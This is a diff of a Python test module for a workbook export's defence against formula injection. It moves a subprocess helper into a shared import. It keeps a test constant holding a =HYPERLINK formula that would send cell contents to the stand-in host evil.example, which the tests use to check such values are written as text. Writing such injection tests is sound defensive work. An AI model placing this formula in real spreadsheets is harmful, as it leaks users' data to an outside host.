@@ -5,10 +5,7 @@ Injection"). Through the office workbook and through the user's own commands."""
 from __future__ import annotations
 
 import io
-import os
 import re
-import subprocess
-import sys
 import zipfile
 from pathlib import Path
 
@@ -22,6 +19,7 @@ from diagnosis.office_ports import EnterpriseRow, MeasureRow, VisitRow
 from diagnosis.office_workbook import build_workbook
 from diagnosis.sheet_cells import MAX_CELL_CHARS, clean, csv_field, set_text
 from tests.diagnosis.test_office import FakeRepo
+from tests.main_process import run_main
 
 REPO_ROOT = Path(__file__).resolve().parents[2]
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"详情")'
@@ -153,19 +151,7 @@ def test_office_workbook_writes_a_non_finite_number_as_text() -> None:
     assert "inf" in _column(data, "措施 Measures", 10)
 
 
-def _run(*args: str) -> subprocess.CompletedProcess[str]:
-    env = {**os.environ, "PYTHONIOENCODING": "utf-8"}
-    env.setdefault("DIAGNOSIS_STORE_PASSPHRASE", "some-passphrase")
-    return subprocess.run(
-        [sys.executable, "main.py", *args],
-        cwd=REPO_ROOT,
-        env=env,
-        capture_output=True,
-        text=True,
-        encoding="utf-8",
-        timeout=180,
-        check=False,
-    )
+_run = run_main
 
 
 def test_formula_names_from_a_register_reach_stats_xlsx_as_text(tmp_path: Path) -> None:
